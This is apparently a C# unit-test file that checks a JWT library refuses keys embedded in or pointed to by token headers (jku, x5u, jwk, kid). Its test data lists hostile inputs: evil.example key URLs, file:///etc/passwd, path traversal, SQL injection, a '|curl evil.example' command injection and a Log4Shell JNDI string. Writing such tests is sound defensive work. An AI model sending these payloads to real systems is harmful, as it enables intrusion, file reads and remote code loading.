using System.Text.Json.Nodes;
using Gatehouse.Testbed;
using Gatehouse.Tokens;

namespace Gatehouse.Tests.Tokens.Attacks;

/// <summary>
/// The token brings its own key, or says where to fetch one (CVE-2018-0114 in node-jose; RFC 8725, section 3.10; RFC 7515, sections 4.1.2 to
/// 4.1.8). Nothing in a header is ever followed: its <c>kid</c> looks up inside the issuer's own keys, and that is all.
/// </summary>
public sealed class EmbeddedKeyAttacks
{
    [Theory]
    [InlineData("jku", "\"https://evil.example/jwks.json\"")]
    [InlineData("x5u", "\"https://evil.example/chain.pem\"")]
    [InlineData("x5u", "\"file:///etc/passwd\"")]
    [InlineData("x5c", "[\"MIIB\"]")]
    [InlineData("x5c", "\"MIIB\"")]
    [InlineData("x5t", "\"MIIB\"")]
    [InlineData("x5t#S256", "\"MIIB\"")]
    [InlineData("url", "\"https://evil.example\"")]
    [InlineData("iss", "\"https://evil.example\"")]
    [InlineData("epk", "{\"kty\":\"EC\"}")]
    [InlineData("oiat", "\"1790000000\"")]
    [InlineData("cty", "\"JWT\"")]
    public async Task Header_members_that_point_to_keys_are_not_followed(string member, string value)
    {
        var gate = new Gate();
        var intruder = new TokenForge(gate.Clock, instance: 2);

        Assert.Null(await gate.RefusalAsync(gate.Forge.Session(header: header => header[member] = JsonNode.Parse(value))));
        Assert.Equal(
            TokenFailure.Signature,
            await gate.RefusalAsync(Crafted.Grafted(gate.Forge, intruder, header => header[member] = JsonNode.Parse(value))));
    }

    // CVE-2018-0114: the key in the header verified the signature.
    [Fact]
    public async Task A_key_inside_the_header_is_not_used()
    {
        var gate = new Gate();
        var intruder = new TokenForge(gate.Clock, instance: 2);
        var jwk = JsonNode.Parse(intruder.Jwks)!["keys"]![0]!;

        Assert.Equal(TokenFailure.Signature, await gate.RefusalAsync(Crafted.Grafted(gate.Forge, intruder, header => header["jwk"] = jwk.DeepClone())));
        Assert.Equal(TokenFailure.KeyUnknown, await gate.RefusalAsync(Crafted.Grafted(gate.Forge, intruder, header =>
        {
            header["jwk"] = jwk.DeepClone();
            header.Remove("kid");
        })));
        Assert.Equal(TokenFailure.KeyUnknown, await gate.RefusalAsync(Crafted.Grafted(gate.Forge, intruder, header =>
        {
            header["jwk"] = jwk.DeepClone();
            header["kid"] = intruder.KeyId;
        })));
    }

    // RFC 8725, section 3.10: kid is a stranger's text. It reaches the issuer's own source to the letter, and nothing else.
    [Theory]
    [InlineData("../../../../../../dev/null")]
    [InlineData("/proc/self/environ")]
    [InlineData("https://evil.example/key.pem")]
    [InlineData("x' UNION SELECT 'secret' --")]
    [InlineData("|curl evil.example")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("__proto__")]
    [InlineData("constructor")]
    [InlineData("*")]
    [InlineData("0")]
    [InlineData(" ")]
    [InlineData("ins_2TestInstance00000000000001\0")]
    [InlineData("ins_2TestInstance00000000000001 ")]
    [InlineData("INS_2TESTINSTANCE00000000000001")]
    [InlineData("ins_2TestInstance0000000000000１")]
    public async Task A_hostile_key_id_finds_no_key(string keyId)
    {
        RecordingKeySource? asked = null;
        var gate = new Gate(forge => new TokenIssuer(forge.IssuerName, asked = new RecordingKeySource(forge.Keys.Find)));

        Assert.Equal(TokenFailure.KeyUnknown, await gate.RefusalAsync(gate.Forge.Session(header: header => header["kid"] = keyId)));
        Assert.Equal([keyId], asked!.Asked);
    }

    [Fact]
    public async Task Nor_does_the_thumbprint_of_a_key_or_a_very_long_text()
    {
        var gate = new Gate();
        foreach (var keyId in new[] { gate.Forge.Keys.Keys.Single().Thumbprint, new string('k', 10_000), gate.Forge.IssuerName })
        {
            Assert.Equal(TokenFailure.KeyUnknown, await gate.RefusalAsync(gate.Forge.Session(header: header => header["kid"] = keyId)));
        }
    }
}
